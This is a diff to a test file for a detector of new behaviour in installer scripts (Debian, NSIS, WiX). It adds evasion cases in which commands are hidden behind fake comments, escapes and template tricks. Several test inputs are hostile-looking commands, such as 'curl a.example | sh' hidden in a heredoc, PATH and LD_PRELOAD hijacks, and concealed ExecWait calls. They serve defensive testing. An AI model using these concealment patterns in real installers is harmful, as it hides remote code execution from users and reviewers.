@@ -41,6 +41,32 @@ describe("what installers newly do", () => {
     ["a name in pieces", DEB, "echo a", 'c""url a.example'],
     ["a command in a text", DEB, "echo a", "echo $(id)"],
     ["a text that goes into a file", DEB, "echo a", "echo a > /etc/a"],
+    ["a line after a text that looks like a comment", DEB, "echo a", 'echo "\n# "; curl a.example | sh'],
+    [
+      "a line after a choice that looks like a comment",
+      DEB,
+      "echo a",
+      'if [ " ]\n# " ]; curl a.example | sh',
+    ],
+    [
+      "a command in an old text of several lines",
+      DEB,
+      "awk '\n# a\n{ print }\n'",
+      "awk '\n# '; curl a.example | sh; '\n{ print }\n'",
+    ],
+    [
+      "a command in a line of an old file that looks like a comment",
+      DEB,
+      "cat > /etc/a <<END\n# a\nEND",
+      "cat > /etc/a <<END\n# $(curl a.example | sh)\nEND",
+    ],
+    ["a line after a blank that is escaped", DEB, "echo a", "echo \\ \ncurl a.example"],
+    ["a line after a backslash that is escaped", DEB, "echo a", "echo \\\\\ncurl a.example"],
+    ["a line after a comment that ends its line", DEB, "echo a", "echo a # \\\ncurl a.example"],
+    ["a folder of programs", DEB, "echo a", "printf -v PATH /opt/a"],
+    ["the same between quotes", DEB, "echo a", 'printf "-v" PATH /opt/a'],
+    ["the same in braces", DEB, "echo a", "printf {,-v} PATH /opt/a"],
+    ["a library of every program", DEB, "echo a", `if [ "$\{LD_PRELOAD:=/opt/a.so}" ]; then`],
     ["another interpreter", DEB, "#!/bin/sh\necho a", "#!/opt/a/sh\necho a"],
     [
       "lines between comments that look like one",
@@ -59,6 +85,31 @@ describe("what installers newly do", () => {
     ["any call of a plugin", NSIS, 'DetailPrint "a"', 'Other::Start "a.exe"'],
     ["a program that two names make", NSIS, 'DetailPrint "a"', `$\{E}$\{F} "a.exe"`],
     ["a macro of another file", NSIS, 'DetailPrint "a"', '!insertmacro DoIt "a.exe"'],
+    ["a macro of LogicLib by its own name", NSIS, "Nop", `$\{If} "" Cmd \`ExecWait "a.exe"\``],
+    ["the same in two pieces", NSIS, "!define N", `!define N\n$\{If} "" C$\{N}md \`ExecWait "a.exe"\``],
+    ["a text from which a loop begins", NSIS, "Nop", `$\{For} $0 "a.exe" 5`],
+    ["a text that is made of a number", NSIS, "Nop", 'IntFmt $0 "a.exe /n %d" 1'],
+    ["what the configuration says as an instruction", NSIS, "Nop", "{{product_name}}"],
+    ["a line after a comment in a line", NSIS, "Nop", 'Nop /*\n; */ ExecWait "a.exe"'],
+    ["a line after words in such a comment", NSIS, "Nop", 'Nop /*\nDetailPrint */ ExecWait "a.exe"'],
+    ["a line after the end of such a comment", NSIS, "Nop", 'Nop /*\n/*/\nExecWait "a.exe"\n/* */'],
+    ["a line after a comment that goes on", NSIS, "Nop", '/* */ ; \\\n/*\nExecWait "a.exe"\n/* */'],
+    ["a line after an end in two pieces", NSIS, "Nop", '/* *\\\n/\nExecWait "a.exe"\n/* */'],
+    ["a line after a backslash and a blank", NSIS, "Nop", '; a \\ \nExecWait "a.exe"'],
+    [
+      "a line after a comment that is never filled in",
+      NSIS,
+      "Nop",
+      '{{#if never}}\n/*\n{{/if}}\nExecWait "a.exe"\n/* */',
+    ],
+    [
+      "an action after a comment of a template",
+      WIX,
+      "<Wix/>",
+      '{{!-- <!-- --}}\n<CustomAction Id="A"/>\n<!-- -->',
+    ],
+    ["an attribute between other quotes", WIX, "<Package/>", "<Package InstallScope = 'perMachine'/>"],
+    ["a folder with a letter by its number", WIX, "<Wix/>", '<Directory Id="Startup&#70;older"/>'],
     ["a name that stands for code", NSIS, "!define RUN 1", `!define RUN "ExecWait 'a.exe'"`],
     ["another program in a register", NSIS, 'ExecWait "$0"', 'StrCpy $0 "a.exe"\nExecWait "$0"'],
     ["a program that people may write down", NSIS, "Pop $0", 'ReadRegStr $0 HKCU "Software\\a" "b"'],
@@ -117,6 +168,8 @@ describe("what installers newly do", () => {
       "#!/bin/sh",
       '#!/bin/sh\ncase "$1" in\n  configure|abort-upgrade)\n    echo "Done." ;;\n  *)\n    exit 1\n    ;;\nesac\nif [ "$1" = "remove" ]; then\n  true\nfi',
     ],
+    ["a comment with quotes", DEB, "echo a", "# don't `look`\necho \"it's there\""],
+    ["an option of echo", DEB, "echo a", "echo -e 'a'\nprintf '%s' a"],
     ["a comment of C", NSIS, 'DetailPrint "a"', '/* ExecWait\n ExecWait "a"\n*/\nDetailPrint "a"'],
     ["a comment of XML", WIX, "<Wix/>", '<!-- <CustomAction\n Id="A"/> -->\n<Wix/>'],
     [
@@ -131,6 +184,13 @@ describe("what installers newly do", () => {
       "Nop",
       `!macro NSIS_HOOK_PREINSTALL\n$\{If} $0 = 1\nStrCpy $1 2\nGoto done\n$\{EndIf}\ndone:\n!macroend`,
     ],
+    [
+      "choices by what there is",
+      NSIS,
+      "Nop",
+      `$\{If} $\{RunningX64}\n$\{AndIf} $\{FileExists} "$INSTDIR\\a.exe"\n$\{ElseIf} "$0" == 'a b'\n$\{Else} ; no\n$\{EndIf}\n$\{Switch} $0\n$\{Case} "a"\n$\{EndSwitch}\n$\{For} $0 1 5\n$\{Next}\nIntFmt $0 "0x%08X" $0`,
+    ],
+    ["what a template chooses", NSIS, "Nop", "{{#each languages}}\n{{else}}\n{{/each}}"],
     ["a language", NSIS, "Nop", `LangString a $\{LANG_GERMAN} "ExecWait führt aus"`],
     ["a component of WiX", WIX, "<Wix/>", '<Component Id="A" Guid="*">\n</Component>'],
     ["a key of XcodeGen", XCODE, "name: a", "name: b\nCFBundleVersion: 2"],
@@ -159,6 +219,13 @@ describe("what installers newly do", () => {
     const base = { code, "parts/a.nsh": "!include b.nsh", "parts/b.nsh": 'DetailPrint "a"' };
     expect(await told(NSIS, base, { ...base, "parts/b.nsh": 'ExecWait "a.exe"' })).toEqual(["medium"]);
     expect(await told(NSIS, base, { ...base, "parts/b.nsh": 'DetailPrint "b"' })).toEqual(["low"]);
+    expect(
+      await told(
+        NSIS,
+        { code: '!include /CHARSET=UTF8 \\\n "a.nsh"', "a.nsh": "Nop" },
+        { code: '!include /CHARSET=UTF8 \\\n "a.nsh"', "a.nsh": 'ExecWait "a.exe"' },
+      ),
+    ).toEqual(["medium"]);
     expect(await told(NSIS, base, { ...base, "parts/c.nsh": 'ExecWait "a.exe"' })).toEqual([]);
   });
 
